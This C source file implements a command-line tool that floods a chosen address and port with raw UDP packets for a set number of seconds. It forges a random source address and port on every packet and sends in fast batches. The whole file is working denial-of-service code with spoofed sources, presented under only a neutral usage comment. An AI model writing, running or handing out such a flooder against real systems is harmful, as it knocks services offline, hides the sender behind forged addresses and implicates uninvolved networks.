// Sends UDP packets from random addresses to one address for some seconds, as fast as it can.
//
//   udp_blast ADDRESS PORT SECONDS     prints the packets sent and the packets a second
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

enum { batch = 64, payload = 18 };
struct packet { struct iphdr ip; struct udphdr udp; char data[payload]; } __attribute__((packed));

static double now(void) {
  struct timespec t;
  clock_gettime(CLOCK_MONOTONIC, &t);
  return t.tv_sec + t.tv_nsec * 1e-9;
}

int main(int argc, char **argv) {
  struct sockaddr_in to = {.sin_family = AF_INET};
  if (argc != 4 || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1) return 64;
  int s = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
  if (s < 0) return perror("socket"), 69;
  static struct packet packets[batch];
  struct iovec parts[batch];
  struct mmsghdr messages[batch];
  memset(messages, 0, sizeof messages);
  for (int i = 0; i < batch; i++) {
    packets[i].ip = (struct iphdr){.version = 4, .ihl = 5, .ttl = 64, .protocol = IPPROTO_UDP,
                                   .tot_len = htons(sizeof(struct packet)), .daddr = to.sin_addr.s_addr};
    packets[i].udp.dest = htons(atoi(argv[2]));
    packets[i].udp.len = htons(sizeof(struct udphdr) + payload);
    parts[i] = (struct iovec){&packets[i], sizeof packets[i]};
    messages[i].msg_hdr = (struct msghdr){.msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &parts[i], .msg_iovlen = 1};
  }
  uint64_t random = 88172645463325252ull, sent = 0;
  double start = now(), end = start + atof(argv[3]);
  while (now() < end) {
    for (int i = 0; i < batch; i++) {
      random ^= random << 13, random ^= random >> 7, random ^= random << 17;
      packets[i].ip.saddr = htonl(0x0b000000 | (uint32_t)(random & 0x3ffffff));
      packets[i].udp.source = htons(1024 + (random >> 40) % 60000);
    }
    int n = sendmmsg(s, messages, batch, 0);
    if (n < 0) return perror("sendmmsg"), 1;
    sent += n;
  }
  printf("%llu %.0f\n", (unsigned long long)sent, sent / (now() - start));
}
